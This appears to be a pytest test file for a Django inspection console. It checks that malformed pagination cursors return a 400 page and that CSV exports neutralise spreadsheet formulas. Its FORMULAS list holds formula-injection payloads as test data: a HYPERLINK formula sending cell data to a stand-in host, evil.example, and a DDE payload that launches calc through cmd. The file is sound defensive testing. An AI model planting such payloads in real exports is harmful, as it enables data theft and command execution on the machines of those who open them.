"""Console parameters and downloads that a hostile or careless hand writes.

- `?after=` / `?before=` cursors that are not ASCII ids ("²", whose isdigit()
  is true but int() refuses: a 500; "٣", read by int() as 3) are a 400 page.
"""

import pytest

CURSOR_PAGES = [
    ("/facilities/", "after"),
    ("/facilities/US-VA-001/", "after"),
    ("/alerts/", "before"),
    ("/inspections/", "before"),
    ("/facilities/US-VA-001/reconciliation/", "after"),
]


@pytest.mark.parametrize(("url", "name"), CURSOR_PAGES)
@pytest.mark.parametrize(
    "value", ["\u0663", "\u00b2", "\u0661\u0662", "1.5", "-1", "abc", "9" * 30, "9223372036854775808"]
)
def test_a_cursor_that_is_not_an_id_is_a_400_page(login, url, name, value):
    response = login("inspector").get(url, {name: value})
    assert response.status_code == 400, response.content[:300]
    assert b"Bad request" in response.content


@pytest.mark.parametrize(("url", "name"), CURSOR_PAGES)
@pytest.mark.parametrize("value", ["", "1", "9223372036854775807"])
def test_an_id_cursor_still_pages(login, url, name, value):
    assert login("inspector").get(url, {name: value}).status_code == 200


# CSV downloads: text that another party wrote never runs as a spreadsheet formula.

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


@pytest.fixture
def hostile_facility(api, parties):
    """Operator A names its facility (and its address) with formulas; the US inspectorate downloads the list."""
    from django.test import Client

    created = api(parties.users["op_a_admin"]).post(
        "/api/v1/facilities/",
        {"code": "US-CSV-1", "name": FORMULAS[0], "country": "US", "latitude": 38.9, "longitude": -77.4},
    )
    assert created.status_code == 201, created.content
    inspector = Client()
    inspector.force_login(parties.users["insp_us"])
    return inspector


def test_a_formula_in_a_facility_name_is_neutralised_in_the_console_csv(hostile_facility):
    from tests.console.helpers import parse_csv

    rows = parse_csv(hostile_facility.get("/facilities/", {"format": "csv"}))
    row = next(r for r in rows if r[0] == "US-CSV-1")
    assert row[1] == "'" + FORMULAS[0]
    # Numbers stay numbers: a negative longitude is written as the number it is.
    assert row[5] == "-77.4"


@pytest.mark.parametrize("value", FORMULAS)
def test_every_trigger_character_is_neutralised(value):
    import csv
    import io

    from core.csvexport import SafeWriter

    out = io.StringIO()
    SafeWriter(out).writerow([value, -5, -1.5, None, "plain", "a=b"])
    cells = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cells == ["'" + value, "-5", "-1.5", "", "plain", "a=b"]


def test_the_api_reconciliation_csv_uses_the_same_writer():
    import csv
    import io

    from core.csvexport import csv_response

    for stream in (True, False):  # the console streams, the API's reconciliation answers one body
        response = csv_response("r.csv", ["kind", "chip"], [("wrong_cluster", "=1+1"), ("missing", "-x")], stream)
        content = b"".join(response.streaming_content) if stream else response.content
        rows = list(csv.reader(io.StringIO(content.decode())))
        assert rows[1:] == [["wrong_cluster", "'=1+1"], ["missing", "'-x"]]
